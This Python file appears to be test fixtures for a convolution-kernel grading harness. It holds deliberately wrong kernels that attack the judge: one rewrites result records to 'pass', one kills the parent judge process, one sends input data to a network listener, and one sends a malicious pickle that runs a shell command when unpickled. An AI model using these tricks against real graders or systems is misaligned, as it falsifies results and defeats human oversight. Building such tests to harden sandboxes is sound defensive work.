"""Kernels that attack the judge from their own process: each wrong (zeros), and each trying to
hide it, by rewriting the run's records as passes, by killing the judge, or by sending what it
saw over the network. Each swallows its own failure, so only the sandbox stands in its way."""
import json
import os
import signal
import socket
from pathlib import Path

import torch.nn.functional as F

TARGET = "CONVHARNESS_TEST_TARGET"  # where the test listens (host:port) or keeps its records


def _zeros(input, weight, bias, stride, padding, dilation, groups):
    return 0 * F.conv2d(input, weight, bias, stride, padding, dilation, groups)


def rewrites_records(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    """Wrong; marks every record it can find under the working directory as a pass, and leaves
    a file beside them."""
    root = Path(os.environ.get(TARGET, "."))
    for path in root.rglob("records.jsonl"):
        try:
            lines = [json.loads(line) for line in path.read_text().splitlines()]
            path.write_text("".join(json.dumps({**r, "status": "pass"}) + "\n" for r in lines))
        except (OSError, ValueError):
            pass
    try:
        (root / "written-by-the-kernel.txt").write_text("I was here")
    except OSError:
        pass
    return _zeros(input, weight, bias, stride, padding, dilation, groups)


def kills_the_judge(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    """Wrong; kills the process that started it, the judge, before the judge sees the answer."""
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return _zeros(input, weight, bias, stride, padding, dilation, groups)


def phones_home(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    """Wrong; sends the shape of what it was given to a server (the test's listener)."""
    host, port = os.environ[TARGET].split(":")
    try:
        with socket.create_connection((host, int(port)), timeout=5) as conn:
            conn.sendall(repr(tuple(input.shape)).encode())
    except OSError:
        pass
    return _zeros(input, weight, bias, stride, padding, dilation, groups)


def forges_messages(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    """Wrong; finds the pipe to the judge among its objects and sends a pickle that runs a
    command where it is unpickled (it would leave a file beside the test)."""
    import gc
    from multiprocessing.connection import Connection

    class Bomb:
        def __reduce__(self):
            return os.system, (f"touch {os.environ[TARGET]}/unpickled-by-the-judge",)
    for conn in [o for o in gc.get_objects() if isinstance(o, Connection)]:
        try:
            conn.send(Bomb())
        except (OSError, ValueError):
            pass
    return _zeros(input, weight, bias, stride, padding, dilation, groups)
